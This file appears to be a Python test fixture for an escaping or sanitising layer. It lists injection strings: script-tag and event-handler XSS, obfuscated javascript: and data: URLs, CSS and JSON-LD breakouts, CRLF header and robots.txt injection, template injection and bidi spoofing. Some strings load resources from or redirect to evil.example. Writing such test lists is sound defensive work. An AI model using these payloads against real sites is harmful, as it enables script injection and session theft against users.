"""What attackers write: name -> text. Each would call PWNED(), leave its place, or change another file, if it were let.

Sorted by the place that it is meant for; every one of them is tried in every place all the same."""

PAYLOADS = {
    # HTML text
    "script": "<script>PWNED()</script>",
    "script, mixed case": "<ScRiPt >PWNED()</sCrIpT >",
    "script, nested": "<scr<script>ipt>PWNED()</scr</script>ipt>",
    "image with handler": "<img src=x onerror=PWNED()>",
    "svg with handler": "<svg/onload=PWNED()>",
    "svg with script": "<svg><script>PWNED()</script></svg>",
    "math to style": "<math><mtext><table><mglyph><style><img src=x onerror=PWNED()>",
    "frame with document": "<iframe srcdoc='<script>parent.PWNED()</script>'></iframe>",
    "base and meta": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "form": "<form action=//evil.example/><input autofocus onfocus=PWNED()><button formaction=javascript:PWNED()>x",
    "object": "<object data=javascript:PWNED()></object><embed src=data:text/html,x>",
    "end of title": "</title><script>PWNED()</script>",
    "end of style": "</style><script>PWNED()</script>",
    "end of textarea": "</textarea></noscript></template><img src=x onerror=PWNED()>",
    "comment": "--><script>PWNED()</script><!--",
    "open comment": "<!-- x",
    "CDATA": "]]><script>PWNED()</script><![CDATA[",
    "references": "&lt;script&gt;PWNED()&lt;/script&gt;&#60;img src=x onerror=PWNED()&#62;",
    "details": "<details open ontoggle=PWNED()><summary>x</summary>",
    "tab and line end in a tag": "<img\tsrc=x\n onerror\n=PWNED()>",
    # attributes
    "double quote": '" autofocus onfocus="PWNED()" x="',
    "single quote": "' autofocus onfocus='PWNED()' x='",
    "quote and end": '"><script>PWNED()</script>',
    "single quote and end": "'><img src=x onerror=PWNED()>",
    "no quote": "x onmouseover=PWNED() style=animation-name:x",
    "backtick": "`onmouseover=PWNED()`",
    # addresses
    "javascript": "javascript:PWNED()",
    "javascript, mixed case": "JaVaScRiPt:PWNED()",
    "javascript with a tab": "java\tscript:PWNED()",
    "javascript with a line end": "java\nscript:PWNED()",
    "javascript after a control character": "\x01javascript:PWNED()",
    "javascript after a space": " javascript:PWNED()",
    "javascript by references": "&#106;avascript&colon;PWNED()",
    "javascript, percent": "javascript%3aPWNED()",
    "data": "data:text/html,<script>PWNED()</script>",
    "data, base64": "data:text/html;base64,PHNjcmlwdD5QV05FRCgpPC9zY3JpcHQ+",
    "vbscript": "vbscript:PWNED()",
    "another host": "//evil.example/x",
    "another host, backslash": "\\\\evil.example\\x",
    # JSON-LD
    "end of data": '"}]}</script><script>PWNED()</script>',
    "escape": "\\u003c/script>\\",
    "line separators": "a\u2028b\u2029c",
    # CSS
    "end of rule": "red;} body { background: url(//evil.example/x) } a {",
    "expression": "expression(PWNED())",
    "import": "'); @import url(//evil.example/x.css); x: url('",
    # other files
    "header": "x\r\nSet-Cookie: a=b",
    "header of another path": "x\n/*\n  X-Evil: 1",
    "robots": "x\nDisallow: /\nUser-agent: evil",
    # templates
    "expression of a template": "{{ 7 * 7 }}",
    "statement of a template": "{% include 'base.html' %}{% set x = 1 %}",
    "comment of a template": "{# gone #}",
    "raw of a template": "{% raw %}<script>PWNED()</script>{% endraw %}",
    # Markdown
    "link": "[x](javascript:PWNED())",
    "link with references": "[x](&#x6A;avascript:PWNED())",
    "link with a tab": "[x](<java\tscript:PWNED()>)",
    "picture": '![x](x"onerror="PWNED\\(\\))',
    "autolink": "<javascript:PWNED()>",
    "reference": "[x]: javascript:PWNED() 'x'",
    # text that hides
    "direction": "\u202egnp.exe\u2066<b>",
    "wide": "\uff1cscript\uff1ePWNED()\uff1c/script\uff1e",
}
